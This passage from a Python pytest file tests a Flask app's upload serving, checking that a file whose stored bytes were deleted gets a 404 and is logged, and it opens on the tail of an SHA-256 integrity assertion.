        f"Upload {upload.id} does not match its SHA-256: it is not served"
    ]


def test_a_file_whose_bytes_are_missing_is_refused_and_logged(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User, caplog: pytest.LogCaptureFixture
) -> None:
    upload = uploads.store(file(image_bytes("PNG"), "a.png"), actor=staff, field="x")
    db.session().execute(delete(UploadContent).where(UploadContent.upload_id == upload.id))
    db.session().commit()
    response = browser_as(user=staff).get(f"/test-uploads/{upload.id}")
    assert response.status_code == 404
    assert "missing from storage" in text_of(response)
    assert f"Upload {upload.id} has no stored content" in caplog.text
